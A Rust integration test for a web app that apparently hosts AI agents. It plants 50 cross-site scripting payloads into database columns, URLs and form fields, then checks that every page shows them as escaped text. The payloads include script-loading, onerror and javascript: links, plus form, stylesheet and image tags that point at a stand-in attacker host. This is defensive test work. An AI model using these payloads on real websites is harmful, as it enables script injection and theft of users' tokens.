//! Words of strangers on every page: whatever a person, a model, a tool, a file or a platform can say is planted with
//! payloads. Each page shows them as words, none is refused for them, and no tag of a page comes from them.

use clifford_core::people::UserRole;
use reqwest::Method;
use serde_json::json;

use super::{
    Browser, encoded, person,
    tags::{self, escaped},
};
use crate::{
    api::bot::{Bot, OWNER},
    store::erasure::{column, script},
};

/// Words that would run, load something or leave their element, if anything took them for more than words.
const PAYLOADS: [&str; 50] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example \"onclick=alert(1)\")",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](x)",
    "<style>*{display:none}</style>",
    "<p style=\"background:url(//evil.example)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=token>",
    "<button formaction=https://evil.example>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</select><option onclick=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "\u{202e}<script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}<marquee onstart=alert(1)>",
];

/// Columns that hold words from outside, each with where pages show it. The word that a value begins with says which it
/// is.
const PLANTED: [(&str, &str); 24] = [
    ("users", "name"),
    ("agents", "name"),
    ("agents", "prompt"),
    ("agent_prompts", "prompt"),
    ("identities", "name"),
    ("channels", "name"),
    ("contexts", "name"),
    ("runs", "input_text"),
    ("runs", "output_text"),
    ("runs", "error"),
    ("run_steps", "tool_name"),
    ("messages", "content"),
    ("messages", "error"),
    ("memory_items", "key"),
    ("memory_items", "value"),
    ("files", "name"),
    ("files", "media_type"),
    ("api_tokens", "name"),
    ("sessions", "user_agent"),
    ("passkeys", "name"),
    ("pairings", "name"),
    ("triggers", "content"),
    ("usage", "model"),
    ("usage", "provider"),
];

/// A word that stands before a payload, and has no character that is escaped.
fn mark(table: &str, column: &str) -> String {
    format!("{table}.{column} ")
}

/// Something of everything that has words: people, a stranger, messages, a failed and an open answer, files, rules.
async fn furnish(bot: &Bot, owner: &Browser<'_>) -> Vec<String> {
    let mut runs = Vec::new();
    let mut paths = Vec::new();
    for (place, payload) in PAYLOADS.into_iter().enumerate() {
        let user = person(bot, &format!("{place} {payload}"), UserRole::Member).await;
        paths.push(format!("/people/{user}"));
        let item = json!({ "userId": user, "module": "identity", "key": format!("key_{place}"), "value": payload });
        assert_eq!(bot.post("/api/memories", &item).await.status, 201, "{payload}");
        let path = format!("/api/files?{}", encoded(&[("name", payload)]));
        let request = bot.request(Method::POST, &path).bearer_auth(OWNER);
        let kept = bot
            .send(request.header("content-type", "text/plain").body("text"))
            .await;
        assert_eq!(kept.status, 201, "{payload}: {}", kept.text);
        let run = owner.says(&format!("say {payload}"), "completed").await;
        paths.push(format!("/runs/{run}"));
        runs.push(run);
    }
    let reminded = owner
        .says("remind me in 2 hours to buy <script>alert(1)</script>", "completed")
        .await;
    let pages = ["", "/why", "/replay", "/prompt", "/rerun?from=1"];
    paths.extend(pages.map(|page| format!("/runs/{reminded}{page}")));
    paths.push(format!("/runs/compare?a={reminded}&b={}", runs[1]));
    for run in &runs {
        let rate = format!("/runs/{run}/rate");
        owner
            .does("/chat", &rate, &[("verdict", "liked"), ("back", "/chat")])
            .await;
    }
    let rule = [("name", PAYLOADS[0]), ("tools", "web"), ("action", "confirm")];
    owner.does("/policies", "/policies", &rule).await;
    paths.extend(kept(bot).await);
    bot.token(&["read"]).await;
    let far = i64::MAX / 2;
    script(
        &bot.app.db,
        &format!(
            "INSERT INTO pairings (platform, platform_user_id, name, code_hash, created_at, expires_at) \
             VALUES ('telegram', '7', 'x', 'x', 1, {far}); \
             INSERT INTO passkeys (id, credential_id, user_handle, rp_id, public_key, sign_count, name, created_at) \
             VALUES ('0190d7b2-6b7e-7cc0-8f4e-2f1f3a0b1c2d', 'x', 'x', 'localhost', 'x', 0, 'x', 1); \
             UPDATE runs SET status = 'failed' WHERE id = '{}'; \
             UPDATE runs SET status = 'failed', quarantined_at = 5 WHERE id = '{}'; \
             UPDATE messages SET status = 'failed' WHERE direction = 'outbound' AND run_id = '{}';",
            runs[0], runs[2], runs[0]
        ),
    )
    .await;
    let contexts = owner.data("/api/contexts").await;
    for context in contexts["items"].as_array().unwrap() {
        let id = context["id"].as_str().unwrap();
        paths.extend([format!("/chat/{id}"), format!("/conversations/{id}")]);
    }
    paths
}

/// The pages of an agent with two versions of its prompt, and of a rule.
async fn kept(bot: &Bot) -> Vec<String> {
    let agent = bot.get("/api/agents").await.json()["items"][0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let change = json!({ "prompt": PAYLOADS[1] });
    assert_eq!(
        bot.call(Method::PATCH, &format!("/api/agents/{agent}"), &change)
            .await
            .status,
        200
    );
    let rule = bot.get("/api/policies").await.json()["items"][0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    vec![
        format!("/agents/{agent}"),
        format!("/agents/{agent}/compare?a=1&b=2"),
        format!("/policies/{rule}"),
    ]
}

/// Overwrites every one of those columns; what a row says changes, what it is does not.
async fn plant(bot: &Bot) {
    for (table, name) in PLANTED {
        let rows = format!(
            "SELECT CAST(rowid AS TEXT) FROM {table} WHERE {name} IS NOT NULL OR ('{name}', '{table}') IN (('error', 'runs'), ('error', 'messages'), ('name', 'channels'), ('name', 'contexts'), ('user_agent', 'sessions'))"
        );
        let mut script_of_all = String::new();
        for (place, row) in column(&bot.app.db, &rows).await.into_iter().enumerate() {
            let payload = PAYLOADS[place % PAYLOADS.len()].replace('\'', "''");
            let mark = mark(table, name);
            script_of_all.push_str(&format!(
                "UPDATE {table} SET {name} = '{mark}{place} {payload}' WHERE rowid = {row};"
            ));
        }
        script(&bot.app.db, &script_of_all).await;
    }
    // Arguments and results of tools, and failures, within data.
    let quoted = r#"<img src=x onerror=alert(1)>\"></pre><script>alert(1)</script>"#;
    script(
        &bot.app.db,
        &format!(
            "UPDATE run_steps SET args_json = '{{\"{quoted}\":\"args {quoted}\"}}' WHERE type = 'tool_call'; \
             UPDATE run_steps SET result_json = replace(result_json, 'buy ', 'result {quoted} ');"
        ),
    )
    .await;
}

/// Pages whose address holds words, or that say what is wrong with it.
fn addressed(payload: &str) -> Vec<String> {
    let given = |path: &str, name: &str| format!("{path}?{}", encoded(&[(name, payload)]));
    let word = encoded(&[("", payload)]).split_off(1);
    vec![
        given("/search", "q"),
        given("/memory", "q"),
        given("/runs", "status"),
        given("/runs", "before"),
        given("/runs/compare", "a"),
        given("/settings", "scope"),
        given("/usage", "by"),
        given("/usage", "space"),
        given("/conversations", "channelId"),
        given("/feedback", "place"),
        given("/login", "link"),
        given("/login", "to"),
        format!("/runs/{word}"),
        format!("/people/{word}"),
        format!("/tools/{word}"),
        format!("/{word}"),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn words_of_anybody_stay_words_on_every_page() {
    let bot = Bot::start().await;
    let owner = Browser::log_in(&bot, None).await;
    let mut paths = furnish(&bot, &owner).await;
    plant(&bot).await;
    paths.extend(super::pages());
    paths.extend(["/tools/web", "/outbox?status=failed", "/memory?archived=true"].map(str::to_owned));
    paths.extend(["model", "user", "channel"].map(|by| format!("/usage?by={by}")));
    let mut all = String::new();
    for path in &paths {
        let page = owner.page(path).await;
        tags::check(path, &page);
        all.push_str(&page);
    }
    for (table, name) in PLANTED {
        assert!(all.contains(&mark(table, name)), "no page shows {table}.{name}");
    }
    for payload in PAYLOADS {
        let shown = escaped(payload).replace('\u{202e}', "\u{fffd}");
        assert!(all.contains(&shown), "no page shows {payload}");
    }
    assert!(
        all.contains("args &lt;img src=x"),
        "no page shows what a tool was asked"
    );
    assert!(all.contains("result &lt;img src=x"), "no page shows what came of it");
    bot.app.shutdown().await;
}

/// Forms whose difference is shown before they are saved, each with a field.
async fn reviewed(bot: &Bot, owner: &Browser<'_>) -> Vec<(String, &'static str)> {
    owner.says("hello", "completed").await;
    let rule = [("name", "r"), ("tools", "web"), ("action", "confirm")];
    owner.does("/policies", "/policies", &rule).await;
    let user = bot.get("/api/users").await.json()["items"][0]["id"].clone();
    let item = json!({ "userId": user, "module": "identity", "key": "name", "value": "Ada" });
    let item = bot.post("/api/memories", &item).await.json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let pages = kept(bot).await;
    let (agent, rule) = (&pages[0], &pages[2]);
    vec![
        (agent.clone(), "prompt"),
        (agent.clone(), "mode"),
        (format!("{agent}/restore"), "version"),
        (rule.clone(), "reason"),
        (rule.clone(), "args"),
        (format!("/memory/{item}"), "value"),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn words_in_an_address_or_a_form_stay_words_in_what_is_said_of_them() {
    let bot = Bot::start().await;
    let owner = Browser::log_in(&bot, None).await;
    let forms = reviewed(&bot, &owner).await;
    for payload in PAYLOADS {
        for path in addressed(payload) {
            let answer = owner.get(&path).await;
            let is_page = answer.header("content-type").starts_with("text/html");
            assert!(
                answer.status < 500 && (is_page || answer.status == 404),
                "{path}: {}",
                answer.text
            );
            if is_page {
                tags::check(&path, &answer.text);
            }
        }
        for (action, name) in [
            ("/settings", "set.model"),
            ("/tools/web", "timeout_seconds"),
            ("/policies", "tools"),
            ("/tokens", "user"),
            ("/tokens", "name"),
            ("/quarantine/none/retry", "back"),
            ("/login", "link"),
        ]
        .into_iter()
        .chain(forms.iter().map(|(action, name)| (action.as_str(), *name)))
        {
            let was = format!("was.{name}");
            let fields = [
                ("scope", "bot"),
                ("scope.read", "yes"),
                (was.as_str(), ""),
                ("name", payload),
                ("action", "deny"),
                (name, payload),
            ];
            let answer = owner.submit("/settings", action, &fields).await;
            assert!(answer.status < 500, "{action}: {}", answer.text);
            tags::check(action, &answer.text);
        }
    }
    bot.app.shutdown().await;
}
